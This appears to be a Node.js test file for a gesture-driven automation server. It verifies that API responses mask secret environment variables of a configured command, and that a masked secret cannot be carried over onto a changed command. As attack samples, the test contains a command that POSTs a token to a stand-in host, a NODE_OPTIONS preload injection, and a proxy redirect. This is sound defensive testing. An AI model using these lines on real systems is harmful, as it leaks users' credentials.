import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import { ManagedProcess } from '../../testing/managed-process.js';
import { scratchFolder } from '../../testing/scratch.js';
import { repoRoot, sharedData } from '../../testing/shared-data.js';
import { waitFor } from '../../testing/wait-for.js';
import { callJson } from '../testing/test-server.js';

const SWIPES = sharedData('dynamic-gestures/swipe_left_right.gif');
const PROJECT = 'swipe-lights';
const TOKEN = 'HUESECRET4242';

interface ShownCommand {
  argv: string[];
  env: Record<string, string>;
}

describe('a command\'s variables are never in what the API answers, and stay stored while the command is unchanged', () => {
  const scratch = scratchFolder('handflow-command-secrets-');
  const marker = join(scratch.path, 'token-seen');
  const configFile = join(scratch.path, 'handflow.config.json');
  /** Writes the token the command was given where the test can read it. */
  const argv = [process.execPath, '-e', `require('node:fs').writeFileSync(${JSON.stringify(marker)}, process.env.HUE_TOKEN ?? '')`];
  const command = (overrides: object = {}) => ({ type: 'command', name: 'lights', on: ['swipe_left', 'swipe_right'], argv, env: { HUE_TOKEN: TOKEN }, ...overrides });
  const project = (action: object) => ({ description: 'lights on a swipe', classifiers: ['swipe'], actions: [action] });
  let server: ManagedProcess;
  let base: string;

  before(async () => {
    scratch.file('handflow.config.json', JSON.stringify({ output: { allowCommands: true } }));
    server = ManagedProcess.start(process.execPath, [join(repoRoot, 'bin', 'handflow.js'), 'serve', '--port', '0', '--config', configFile, '--files', dirname(SWIPES), '--log-level', 'warn'], {
      env: { PATH: process.env['PATH'] ?? '', HANDFLOW_HOME: scratch.path },
    });
    const [, url] = await server.waitForOutput(/dashboard at (http:\/\/\S+)/, 'the dashboard address', 30_000);
    base = new URL(url!).origin;
  });
  after(async () => {
    await server?.stop();
  });

  /** The project's one action as GET shows it. */
  async function shownAction(): Promise<ShownCommand> {
    const { body } = await callJson(base, 'GET', `/api/projects/${PROJECT}`);
    return (body as unknown as { definition: { actions: ShownCommand[] } }).definition.actions[0]!;
  }

  /** Arms the actions, plays the swipes through the project, and gives the token the command wrote. */
  async function playSwipes(): Promise<string> {
    rmSync(marker, { force: true });
    assert.deepEqual((await callJson(base, 'POST', '/api/actions/arm', {})).body, { armed: true });
    const started = await callJson(base, 'POST', '/api/sessions', { source: { type: 'file', path: SWIPES, realtime: false }, project: PROJECT });
    assert.equal(started.status, 201, JSON.stringify(started.body));
    await waitFor('the command to run', () => (existsSync(marker) ? true : undefined), 60_000);
    // Played to its end: a project cannot be changed under a session running it (PROJECT_IN_USE).
    const { id } = started.body as { id: string };
    await waitFor('the session to end', async () => ((await callJson(base, 'GET', `/api/sessions/${id}`)).body as { state: string }).state === 'ended' || undefined, 60_000);
    return readFileSync(marker, 'utf8');
  }

  it('shows the variables hidden in every answer, keeps them on a PUT of the project as shown, and the command gets them', async () => {
    const created = await callJson(base, 'POST', '/api/projects', { name: PROJECT, ...project(command()) });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    const answers = [created.body, (await callJson(base, 'GET', '/api/projects')).body, (await callJson(base, 'GET', `/api/projects/${PROJECT}`)).body];
    for (const answer of answers) assert.ok(!JSON.stringify(answer).includes(TOKEN), JSON.stringify(answer));
    const shown = await shownAction();
    assert.deepEqual(shown.env, { HUE_TOKEN: '***' });
    assert.deepEqual(shown.argv, argv, 'the command itself is shown');

    const saved = await callJson(base, 'PUT', `/api/projects/${PROJECT}`, project(shown));
    assert.equal(saved.status, 200, JSON.stringify(saved.body));
    assert.ok(!JSON.stringify(saved.body).includes(TOKEN));
    assert.equal(await playSwipes(), TOKEN);
  });

  it('refuses a hidden variable sent with a changed command, saving nothing', async () => {
    const stored = readFileSync(configFile, 'utf8');
    const shown = await shownAction();
    const exfiltrate = [process.execPath, '-e', 'fetch("http://127.0.0.2:9/", { method: "POST", body: process.env.HUE_TOKEN })'];
    const refused = await callJson(base, 'PUT', `/api/projects/${PROJECT}`, project({ ...shown, argv: exfiltrate }));
    assert.equal(refused.status, 400, JSON.stringify(refused.body));
    assert.equal(refused.body.code, 'INVALID_REQUEST');
    assert.match(String(refused.body.message), /^invalid setting: projects\.swipe-lights\.actions\.0\.env\.HUE_TOKEN still holds \*\*\* where a secret was hidden: give the value itself/);
    assert.equal(readFileSync(configFile, 'utf8'), stored, 'nothing was saved');
  });

  it('refuses a hidden variable sent beside a variable added to the unchanged command (a preload, a proxy), saving nothing', async () => {
    const stored = readFileSync(configFile, 'utf8');
    const shown = await shownAction();
    for (const added of [{ NODE_OPTIONS: '--require /tmp/leak.cjs' }, { http_proxy: 'http://127.0.0.2:9' }]) {
      const refused = await callJson(base, 'PUT', `/api/projects/${PROJECT}`, project({ ...shown, env: { ...shown.env, ...added } }));
      assert.equal(refused.status, 400, JSON.stringify(refused.body));
      assert.match(String(refused.body.message), /env\.HUE_TOKEN still holds \*\*\*.*to change one variable, give them all/);
    }
    assert.equal(readFileSync(configFile, 'utf8'), stored, 'nothing was saved');
  });
});
